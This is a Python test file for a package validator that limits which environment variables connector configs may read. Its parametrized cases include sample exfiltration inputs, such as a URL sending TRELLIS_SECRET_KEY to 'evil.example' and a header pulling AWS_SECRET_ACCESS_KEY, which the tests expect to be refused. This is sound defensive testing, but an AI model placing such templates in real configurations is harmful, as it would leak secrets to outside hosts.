"""Packages read only the environment variables an administrator allowed, never Trellis's own."""

import json
from pathlib import Path

import pytest

from engine.config import Settings
from engine.connectors.environment import EnvPolicy
from engine.errors import ConfigError
from engine.packages import package_problems

OWN = "package.env_own_setting"
PROPERTY = json.loads((Path(__file__).resolve().parents[2] / "apps" / "property_repair.json").read_text("utf-8"))


def leaking(url: str, secret: str | None = None, headers: dict[str, str] | None = None) -> dict:
    document = json.loads(json.dumps(PROPERTY))
    config = document["connectors"][0]["config"]
    config["url"] = url
    if secret is not None:
        config["secret"] = secret
    if headers is not None:
        config["headers"] = headers
    return document


def test_the_default_lets_packages_read_only_trellis_app_variables():
    policy = EnvPolicy()
    assert policy.allows("TRELLIS_APP_FINANCE_URL")
    assert not policy.allows("TRELLIS_SECRET_KEY")
    assert not policy.allows("TRELLIS_DATABASE_URL")
    assert not policy.allows("HOME")
    assert not policy.allows("DATABASE_URL")


def test_trellis_own_settings_stay_out_even_when_listed():
    policy = EnvPolicy.parse("TRELLIS_SECRET_KEY, TRELLIS_*, ERP_*, PAYROLL_URL")
    assert not policy.allows("TRELLIS_SECRET_KEY")
    assert not policy.allows("TRELLIS_REDIS_URL")
    assert policy.allows("TRELLIS_APP_X")  # the listed TRELLIS_* covers the packages' own prefix
    assert policy.allows("ERP_TOKEN") and policy.allows("PAYROLL_URL")
    assert not policy.allows("PAYROLL_URL_2")
    environ = {"TRELLIS_SECRET_KEY": "k", "ERP_TOKEN": "t", "PATH": "/bin", "TRELLIS_APP_X": "x"}
    assert dict(policy.visible(environ)) == {"ERP_TOKEN": "t", "TRELLIS_APP_X": "x"}
    assert policy.visible(environ).get("TRELLIS_SECRET_KEY") is None


def test_a_malformed_allow_list_is_a_setting_error_naming_the_variable():
    with pytest.raises(ConfigError) as caught:
        Settings.from_env({"TRELLIS_PACKAGE_ENV": "ERP_*, lower-case"})
    assert caught.value.details == {"variable": "TRELLIS_PACKAGE_ENV"}
    assert "lower-case" in str(caught.value)


def test_the_bundled_app_reads_only_allowed_variables():
    assert package_problems(PROPERTY) == []


@pytest.mark.parametrize(
    ("document", "pointer", "code"),
    [
        (leaking("https://evil.example/{{env.TRELLIS_SECRET_KEY}}"), "/connectors/0/config/url", OWN),
        (leaking("https://x.example", secret="env:TRELLIS_DATABASE_URL"), "/connectors/0/config/secret", OWN),
        (leaking("https://x.example/{{ env.HOME }}"), "/connectors/0/config/url", "package.env_not_allowed"),
        (
            leaking("https://x.example", headers={"X-A/B": "{{env.AWS_SECRET_ACCESS_KEY}}"}),
            "/connectors/0/config/headers/X-A~1B",
            "package.env_not_allowed",
        ),
    ],
)
def test_a_package_reading_anything_else_is_refused_at_its_pointer(document, pointer, code):
    found = package_problems(document)
    assert [(p.pointer, p.code) for p in found] == [(pointer, code)]
    assert "TRELLIS_PACKAGE_ENV" in found[0].message or "TRELLIS_APP_" in found[0].message


def test_what_the_administrator_allowed_validates():
    document = leaking("https://erp.example/{{env.ERP_URL}}", secret="env:ERP_TOKEN")
    assert package_problems(document, EnvPolicy.parse("ERP_*")) == []
    refused = {p.pointer for p in package_problems(document)}
    assert refused == {"/connectors/0/config/url", "/connectors/0/config/secret"}
